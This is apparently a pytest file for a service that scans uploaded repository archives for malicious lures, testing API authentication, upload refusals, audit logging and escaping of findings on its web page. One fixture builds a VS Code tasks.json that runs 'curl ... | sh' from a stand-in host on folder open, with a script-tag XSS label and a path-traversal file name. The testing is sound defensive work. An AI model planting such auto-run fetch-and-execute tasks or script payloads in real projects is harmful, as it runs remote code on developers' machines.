"""The API endpoint (archive upload, API key, size limit) and the page (escaped findings)."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

from fastapi.testclient import TestClient
from tests.service.conftest import Keys, login

LURES = Path(__file__).parent / "lures"


def _zip(folder: Path) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for p in sorted(folder.rglob("*")):
            if p.is_file():
                zf.write(p, "repo/" + p.relative_to(folder).as_posix())
    return buf.getvalue()


def test_api_checks_an_uploaded_archive(client: TestClient, keys: Keys) -> None:
    data = _zip(LURES / "ci-vscode-curl-sh")
    res = client.post(
        "/api/v1/lure/checks",
        files={"file": ("take-home.zip", data, "application/zip")},
        headers=keys.headers("analyst"),
    )
    assert res.status_code == 200, res.text
    doc = res.json()
    assert (
        doc["summary"]["high"] >= 1 and doc["exit_code"] == 3 and doc["target"] == "take-home.zip"
    )
    f = doc["findings"][0]
    assert f["path"] == "repo/.vscode/tasks.json" and f["runs"] == "on folder open"
    assert f["citations"][0]["url"].startswith("https://")
    audit = client.get(
        "/api/v1/audit", params={"action": "lure.check"}, headers=keys.headers("admin")
    ).json()
    assert audit["items"][0]["result"]["high"] >= 1


def test_api_refusals(client: TestClient, keys: Keys) -> None:
    h = keys.headers("analyst")
    assert (
        client.post(
            "/api/v1/lure/checks", files={"file": ("x.zip", b"x", "application/zip")}
        ).status_code
        == 401
    )
    assert (
        client.post(
            "/api/v1/lure/checks", files={"file": ("x.zip", b"x")}, headers=keys.headers("viewer")
        ).status_code
        == 403
    )
    res = client.post("/api/v1/lure/checks", files={"file": ("x.exe", b"MZ")}, headers=h)
    assert res.status_code == 415
    res = client.post("/api/v1/lure/checks", files={"file": ("../x.zip", b"PK")}, headers=h)
    assert res.status_code == 400
    res = client.post(
        "/api/v1/lure/checks", files={"file": ("x.zip", b"PK\x03\x04garbage")}, headers=h
    )
    assert res.status_code == 400 and "corrupt" in res.json()["error"]["message"]
    big = b"0" * (65 * 1024)  # the test service caps bodies at 64 KiB
    res = client.post("/api/v1/lure/checks", files={"file": ("x.zip", big)}, headers=h)
    assert res.status_code == 413


def test_page_shows_escaped_findings(client: TestClient, keys: Keys, tmp_path: Path) -> None:
    evil = tmp_path / "evil"
    (evil / ".vscode").mkdir(parents=True)
    label = "<script>alert(1)</script>"
    (evil / ".vscode" / "tasks.json").write_text(
        json.dumps(
            {
                "tasks": [
                    {
                        "label": label,
                        "command": "curl -s https://x.example.test/a | sh",
                        "runOptions": {"runOn": "folderOpen"},
                    }
                ]
            }
        )
    )
    token = login(client)
    page = client.get("/lure")
    assert page.status_code == 200 and 'action="/lure"' in page.text
    res = client.post(
        "/lure",
        data={"csrf_token": token},
        files={"file": ("evil.zip", _zip(evil), "application/zip")},
    )
    assert res.status_code == 200, res.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in res.text and label not in res.text
    assert "hxxps://x[.]example[.]test" in res.text and "Do not open" in res.text
    assert "<script>" not in res.text.split("<main>")[1].split("</main>")[0]
    nav = client.get("/").text
    assert 'href="/lure"' in nav
